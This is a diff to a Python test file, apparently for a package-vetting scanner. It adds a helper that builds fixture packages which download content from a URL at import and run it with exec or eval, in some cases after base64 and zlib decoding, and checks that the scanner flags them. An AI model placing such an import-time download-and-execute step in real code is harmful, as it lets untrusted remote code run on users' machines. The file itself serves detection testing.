@@ -42,23 +42,27 @@ def _vet(tmp_path: Path, name: str, src: str) -> tuple[Report, dict[str, Any]]:
     return report, json.loads(m.group(1))
 
 
+def _downloader(url: str, run: str) -> str:
+    """A package that downloads *url* at import into ``data`` and runs it with *run*."""
+    return textwrap.dedent(f"""\
+        import base64, json, zlib, urllib.request
+        facts = {{}}
+        try:
+            data = urllib.request.urlopen({url!r}, timeout=10).read()
+            facts["bytes"] = len(data)
+            {run}
+            facts["ran"] = True
+        except Exception as exc:
+            facts["ran"] = type(exc).__name__
+        print("FACTS " + json.dumps(facts))
+        """)
+
+
 def test_a_downloader_that_runs_its_answer_is_malicious(tmp_path: Path) -> None:
     r = Randomised()
     host = _host(r)
     url = f"https://{host}/{r.rng.choice(WORDS)}/{r.rng.choice(['update.txt', 'latest', 'config'])}"
-    run = r.rng.choice(["exec(code, {})", "eval(code.decode())"])
-    src = textwrap.dedent(f"""\
-        import json, urllib.request
-        facts = {{}}
-        try:
-            code = urllib.request.urlopen({url!r}, timeout=10).read()
-            facts["bytes"] = len(code)
-            {run}
-            facts["ran"] = True
-        except Exception as exc:
-            facts["ran"] = repr(exc)
-        print("FACTS " + json.dumps(facts))
-        """)
+    src = _downloader(url, r.rng.choice(["exec(data, {})", "eval(data.decode())"]))
     report, facts = _vet(tmp_path, r.name("dl"), src)
     assert facts["ran"] is True and facts["bytes"] > 0, facts
     net = report.network
@@ -137,18 +141,7 @@ def test_a_downloader_that_decodes_its_answer_is_not_clean(tmp_path: Path) -> No
     host = _host(r)
     url = f"https://{host}/{r.rng.choice(WORDS)}/{r.rng.choice(['latest', 'v2', 'current'])}"
     decode = r.rng.choice(["base64.b64decode(data)", "zlib.decompress(base64.b64decode(data))"])
-    src = textwrap.dedent(f"""\
-        import base64, json, zlib, urllib.request
-        facts = {{}}
-        try:
-            data = urllib.request.urlopen({url!r}, timeout=10).read()
-            facts["bytes"] = len(data)
-            exec({decode})
-            facts["ran"] = True
-        except Exception as exc:
-            facts["ran"] = type(exc).__name__
-        print("FACTS " + json.dumps(facts))
-        """)
+    src = _downloader(url, f"exec({decode})")
     report, facts = _vet(tmp_path, r.name("dec"), src)
     assert facts["bytes"] > 0 and facts["ran"] is not True, facts
     assert "PS013" not in {f.rule_id for f in report.findings}
